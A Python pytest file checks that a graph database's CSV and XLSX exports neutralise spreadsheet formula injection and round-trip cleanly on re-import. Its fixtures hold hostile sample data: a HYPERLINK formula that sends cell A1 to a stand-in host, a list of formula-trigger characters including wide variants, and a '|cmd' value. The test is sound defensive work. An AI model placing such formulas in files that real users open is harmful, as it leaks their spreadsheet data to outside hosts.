"""No cell of a file that goes out is run by a spreadsheet, and what comes in again is what it was."""

import csv
import shutil

import pytest
from openpyxl import load_workbook

from graph.database import open_engine, reading
from graph.reading.csv_files import guard, unguard
from graph.writing import export
from tests.graph.exchange_files import SECTORS, contents, csv_of, import_files, write_files

SIGNS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\r=", "\n="]  # noqa: RUF001 -- the wide ones are meant
EVIL = 'HYPERLINK("http://elders.example?"&A1;"klik")'


@pytest.mark.parametrize("sign", SIGNS)
@pytest.mark.parametrize("before", ["", "'", "''"])
def test_what_a_spreadsheet_would_run_is_guarded_and_comes_back(sign, before):
    text = before + sign + EVIL

    assert guard(text).startswith("'")
    assert unguard(guard(text)) == text


@pytest.fixture
def evil_engine(sqlite_template, tmp_path):
    shutil.copy(sqlite_template, tmp_path / "osmose.db")
    engine = open_engine(f"sqlite:///{tmp_path / 'osmose.db'}")
    rows = [
        {"id": f"p{at}", "name": f"{sign.strip()}{EVIL} {at}", "sector": "school", "description": f"{sign}1+1|cmd"}
        for at, sign in enumerate(sign for sign in SIGNS if "\r" not in sign)  # which ends a row that is not quoted
    ]
    import_files(engine, write_files(tmp_path / "in", sectors=SECTORS, partners=csv_of(*rows)))
    yield engine
    engine.dispose()


def test_tables_hold_no_formula_and_change_nothing_when_they_come_in_again(evil_engine, tmp_path):
    before = contents(evil_engine)
    with reading(evil_engine) as session:
        export(session, "csv", tmp_path / "out")
        export(session, "xlsx", tmp_path / "out.xlsx")

    with (tmp_path / "out" / "partners.csv").open(encoding="utf-8-sig", newline="") as file:
        names = [row["name"] for row in csv.DictReader(file)]
    cells = [cell for row in load_workbook(tmp_path / "out.xlsx")["partners"].iter_rows() for cell in row]
    assert len(names) == len(SIGNS) - 1
    assert {name[0] for name in names} == {"'"}
    assert "f" not in {cell.data_type for cell in cells}
    for path in (tmp_path / "out", tmp_path / "out.xlsx"):
        assert not import_files(evil_engine, path).is_change
    assert contents(evil_engine) == before
